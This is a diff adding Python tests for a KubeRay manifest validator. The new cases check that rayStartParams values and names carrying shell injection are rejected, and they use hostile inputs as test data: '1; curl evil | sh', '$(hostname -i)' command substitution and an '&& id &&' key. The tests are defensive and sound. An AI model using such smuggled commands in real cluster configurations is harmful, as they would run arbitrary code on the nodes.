@@ -95,6 +95,30 @@ CLUSTER_CASES: list[tuple[str, Mutation, str, str]] = [
         "not supported for small group",
     ),
     (
+        "a command in rayStartParams",
+        lambda m: head(m).update(rayStartParams={"num-cpus": "1; curl evil | sh"}),
+        "spec.headGroupSpec.rayStartParams.num-cpus",
+        "must not hold the shell operator ';'",
+    ),
+    (
+        "command substitution in rayStartParams, even in double quotes",
+        lambda m: worker(m).update(rayStartParams={"node-ip-address": '"$(hostname -i)"'}),
+        "spec.workerGroupSpecs[0].rayStartParams.node-ip-address",
+        "must not hold command substitution",
+    ),
+    (
+        "an unclosed quote in rayStartParams",
+        lambda m: worker(m).update(rayStartParams={"temp-dir": "'/tmp/ray"}),
+        "spec.workerGroupSpecs[0].rayStartParams.temp-dir",
+        "must not hold an unclosed quote",
+    ),
+    (
+        "a shell operator in a rayStartParams name",
+        lambda m: worker(m).update(rayStartParams={"x=1 && id && y": "1"}),
+        "spec.workerGroupSpecs[0].rayStartParams.x=1 && id && y",
+        "the name goes into the `ray start` command line",
+    ),
+    (
         "invalid label key",
         lambda m: worker(m).update(labels={"bad key": "v"}),
         "spec.workerGroupSpecs[0].labels.bad key",
@@ -737,3 +761,14 @@ def test_job_ids_of_ray_kuberay_and_users_are_valid(job_id: str) -> None:
     manifest = rayjob()
     set_in(manifest, "spec.jobId", job_id)
     assert not [p for p in validate(manifest) if p.path == "spec.jobId"]
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["$MY_POD_IP", "${RAY_PORT:-6379}", '"{\\"Custom\\": 1}"', "'{\"a\": 1}'", "'$(literal)'", "1 --block"],
+)
+def test_ray_start_params_that_are_words_pass(value: str) -> None:
+    """Environment variables, quoted JSON (KubeRay's documented `resources` form), single-quoted text."""
+    manifest = raycluster()
+    head(manifest).update(rayStartParams={"x": value})
+    assert not [p for p in validate(manifest) if p.path.startswith("spec.headGroupSpec.rayStartParams")]
